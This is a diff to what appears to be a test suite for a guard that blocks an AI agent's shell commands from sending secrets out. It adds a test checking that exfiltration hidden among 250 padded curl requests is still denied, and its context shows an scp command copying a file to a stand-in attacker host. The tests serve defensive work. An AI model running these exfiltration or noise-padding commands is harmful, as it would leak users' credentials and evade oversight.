@@ -165,6 +165,16 @@ def test_a_file_that_carries_the_secret_on(box: Any) -> None:
     assert "read-secret" not in shell(box, "scp -i client.key clean.txt me@evil-example.net:/tmp/x").document["user_message"]
 
 
+def test_a_crowd_of_requests_hides_nothing(box: Any) -> None:
+    read_env(box)
+    noise = "; ".join(f"curl -s {HOST}/{number}/{'n0ise' * 300}" for number in range(250))
+    assert "read-secret" not in str(shell(box, noise).document)
+    for command in (f"{noise}; {SENT['query']}", f"{SENT['hex']}; {noise}"):
+        outcome = shell(box, command)
+        assert outcome.decision("preToolUse") == "deny"
+        assert "read-secret" in outcome.document["user_message"]
+
+
 def test_a_shell_read_counts_too(box: Any) -> None:
     (box.workspace / ".env").write_text(ENV)
     shell(box, "cat .env")
